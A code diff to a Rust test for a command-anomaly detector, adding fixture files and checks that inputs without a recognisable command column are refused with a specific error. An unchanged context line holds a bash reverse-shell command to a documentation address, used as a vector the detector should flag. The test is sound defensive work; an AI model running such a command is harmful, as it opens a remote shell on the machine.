@@ -94,6 +94,11 @@ fn commands_are_trained_scored_and_explained_from_where_they_lie() {
     let at = folder(&[
         ("a.ndjson", commands().as_bytes()),
         (".bash_history", history),
+        ("other.csv", b"colour,label\nred,1\n"),
+        (
+            "other.ndjson",
+            b"{\"colour\":\"red\",\"label\":1}\n{\"colour\":\"red\",\"label\":0}\n",
+        ),
     ]);
     ringtrue(
         at.path(),
@@ -109,6 +114,15 @@ fn commands_are_trained_scored_and_explained_from_where_they_lie() {
     let vector = br#"{"command":["bash","-c","bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"]}"#;
     let scored = ringtrue_fed(at.path(), "score --detector out/detector -", vector).exits(0);
     assert!(lines(&scored.stdout)[0]["margin"].as_f64().unwrap() > margins[0]);
+    for file in ["other.csv", "other.ndjson"] {
+        let refused = ringtrue(at.path(), &format!("score --detector out/detector {file}"));
+        let refused = refused.exits(2);
+        let told = format!(
+            "error: cannot tell the columns of `{file}`\n  cause: no column is recognised as the command\n\n\
+             hint: name the command under `[columns]` of a task.toml; the input's columns are: colour, label\n"
+        );
+        assert_eq!((refused.stdout, refused.stderr), (String::new(), told));
+    }
     let explained = ringtrue_fed(
         at.path(),
         "explain --detector out/detector --json --row 0 -",
